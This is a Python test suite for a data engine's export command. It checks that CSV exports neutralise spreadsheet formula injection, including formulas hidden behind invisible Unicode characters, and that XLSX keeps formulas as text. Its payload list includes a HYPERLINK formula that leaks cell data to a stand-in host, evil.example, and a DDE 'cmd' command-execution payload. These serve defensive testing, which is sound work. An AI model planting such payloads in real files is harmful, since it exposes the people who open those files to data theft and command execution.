"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection); XLSX keeps them text.

A corpus of payloads (formula starters times formula bodies, plus look-alikes that must stay
untouched) is ingested through the real path into a model with text and signed number
columns, exported with and without ``--no-sanitize``, and read back with Python's csv module.
"""

from __future__ import annotations

import csv
import itertools
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path

import duckdb
import openpyxl
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.reports.selections import FORMULA_STARTS, neutralised
from engine.store.store import Store
from tests.reports.conftest import ingest

RunCli = Callable[..., Result]

MODEL = """
from pydantic import BaseModel


class Cell(BaseModel):
    label: str
    value: float
    count: int
"""
BODIES = [
    'HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(A1:A9)",
    "",
]
# Look-alikes that are not formulas: a quote, a space or a letter first, a full-width equals.
HARMLESS = ["'", " ", "a", "\uff1d", "#"]
# What a spreadsheet may trim, or a reader cannot see, before a formula: spaces, a no-break
# space, an ideographic space, a zero-width space, a byte order mark, a right-to-left
# override, a line separator, a control character.
HIDDEN = [" ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\u2028", "\x01", " \u200b"]


# Unicode's separators, controls and format characters.
HIDDEN_KINDS = {"Zs", "Zl", "Zp", "Cc", "Cf"}


def payloads() -> list[str]:
    starts = [*FORMULA_STARTS, *HARMLESS]
    starts += [hidden + char for hidden in HIDDEN for char in ("=", "+", "-", "@", "a", "'")]
    return [start + body for start, body in itertools.product(starts, BODIES)]


def neutral(text: str) -> str:
    """The reference: OWASP's advice, a ' before a cell that starts like a formula, also
    after characters that show nothing (Unicode separators, controls and format characters)."""
    shown = text.lstrip("".join({c for c in text if unicodedata.category(c) in HIDDEN_KINDS}))
    formula = text[:1] in FORMULA_STARTS or (shown != text and shown[:1] in {*"=+-@"})
    return "'" + text if formula else text


def write_corpus(path: Path) -> list[list[str]]:
    """One valid row per payload (with negative numbers), and invalid rows whose raw text
    and error messages carry payloads too. Returns the rows as written."""
    rows = [[label, str(-5 - i), str(-5 - i)] for i, label in enumerate(payloads())]
    rows += [[label, "-1.5", label] for label in payloads()[:10]]  # count is not an int
    with path.open("w", newline="", encoding="utf-8") as out:
        # CRLF line ends make the csv module quote a cell holding a carriage return (with
        # "\n" alone it leaves it bare, and a bare CR ends a line, in Python's reader too).
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(["label", "value", "count"])
        writer.writerows(rows)
    return rows


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as source:
        return list(csv.reader(source))


def text_columns(db: Path, kind: str) -> set[str]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        if kind == "processed":
            rows = con.sql("DESCRIBE cell").fetchall()
            return {name for name, type_, *_ in rows if type_ == "VARCHAR"}
    finally:
        con.close()
    return {"message", "errors", "raw"} if kind == "errors" else {"raw"}


def test_csv_exports_neutralise_formulas_and_keep_numbers(run_cli: RunCli, tmp_path: Path) -> None:
    (tmp_path / "cells.py").write_text(MODEL)
    source = tmp_path / "cells.csv"
    written = write_corpus(source)
    db = tmp_path / "cells.duckdb"
    ingest(db, source, schema=f"{tmp_path / 'cells.py'}:Cell")
    for kind in ("processed", "errors", "raw"):
        safe, exact = tmp_path / f"{kind}.csv", tmp_path / f"{kind}-exact.csv"
        for out, extra in ((safe, []), (exact, ["--no-sanitize"])):
            result = run_cli("export", kind, "--db", str(db), "-o", str(out), "-q", *extra)
            assert result.exit_code == 0, result.output
        neutralised, stored = read_csv(safe), read_csv(exact)
        header = stored[0]
        assert neutralised[0] == header
        texts = text_columns(db, kind)
        assert len(neutralised) == len(stored) > 1
        changed = 0
        for got, original in zip(neutralised[1:], stored[1:], strict=True):
            for name, cell, value in zip(header, got, original, strict=True):
                expected = neutral(value) if name in texts else value
                assert cell == expected, (kind, name, value)
                changed += cell != value
        assert changed > 0, kind
    # The valid rows: every label as ingested (exact export) and neutralised (default);
    # the signed numbers stay numbers.
    valid = written[: len(payloads())]
    as_stored = read_csv(tmp_path / "processed-exact.csv")[1:]
    assert [(row[2], float(row[3]), row[4]) for row in as_stored] == [
        (label, float(value), count) for label, value, count in valid
    ]
    processed = read_csv(tmp_path / "processed.csv")
    assert processed[0] == ["run_id", "row_number", "label", "value", "count"]
    assert [row[2] for row in processed[1:]] == [neutral(row[0]) for row in valid]
    assert [(row[3], row[4]) for row in processed[1:]] == [
        (f"{-5 - i}.0", str(-5 - i)) for i in range(len(valid))
    ]
    assert processed[1][2:] == ["'=" + BODIES[0], "-5.0", "-5"]


def test_xlsx_keeps_formulas_as_text(run_cli: RunCli, tmp_path: Path) -> None:
    (tmp_path / "cells.py").write_text(MODEL)
    source = tmp_path / "cells.csv"
    written = write_corpus(source)
    db = tmp_path / "cells.duckdb"
    ingest(db, source, schema=f"{tmp_path / 'cells.py'}:Cell")
    out = tmp_path / "cells.xlsx"
    result = run_cli("export", "processed", "--db", str(db), "-o", str(out), "-q")
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["processed"]
    labels = [(cell.data_type, cell.value) for cell in sheet["C"][1:]]
    # openpyxl reads a formula cell as data_type "f"; empty strings are not written at all;
    # a control character (a CR...) is stored as Excel's escape _x000D_, which openpyxl
    # leaves as it is.
    expected = [
        ("s", re.sub("[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", row[0]))
        if row[0]
        else ("n", None)
        for row in written[: len(payloads())]
    ]
    assert labels == expected
    assert {cell.data_type for cell in sheet["D"][1:]} == {"n"}
    assert sheet["D2"].value == -5


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        # Not Cn: characters unassigned in this Python's Unicode may be assigned in DuckDB's.
        alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=["Cs", "Cn"])
        | st.sampled_from([*"".join(HIDDEN), *FORMULA_STARTS, "a", "'"]),
        max_size=8,
    )
)
def test_the_sql_expression_is_the_reference(text: str) -> None:
    con = duckdb.connect()
    try:
        found = con.execute(f"SELECT {neutralised('c')} FROM (SELECT ?::VARCHAR AS c)", [text])
        assert found.fetchone() == (neutral(text),)
    finally:
        con.close()


def test_a_neutralised_export_keeps_the_stored_order(run_cli: RunCli, tmp_path: Path) -> None:
    """Rows come in stored order: the neutralising expression must not turn the plan into one
    that reorders them (an IN list of seven values is planned as a hash join, which does)."""
    db = tmp_path / "many.duckdb"
    with Store(db) as store:
        store.execute(
            "CREATE TABLE processed_data (run_id BIGINT, row_number BIGINT, label VARCHAR, "
            "other VARCHAR)"
        )
        store.execute(
            "INSERT INTO processed_data SELECT 1, i, ['=x', 'a', '-1', '@'][1 + i % 4], "
            "'b' || i FROM range(1, 400001) t(i)"
        )
        store.execute(
            "INSERT INTO ingestion_runs (run_id, source_kind, source_path, format, schema_name, "
            "schema_fingerprint, target_table, started_at, status) VALUES "
            "(1, 'file', 'x', 'csv', 'X', 'x', 'processed_data', now(), 'completed')"
        )
    out = tmp_path / "many.csv"
    result = run_cli("export", "processed", "--db", str(db), "-o", str(out), "-q")
    assert result.exit_code == 0, result.output
    rows = read_csv(out)[1:]
    assert [int(row[1]) for row in rows] == list(range(1, 400_001))
    assert [row[2] for row in rows[:4]] == ["a", "'-1", "'@", "'=x"]
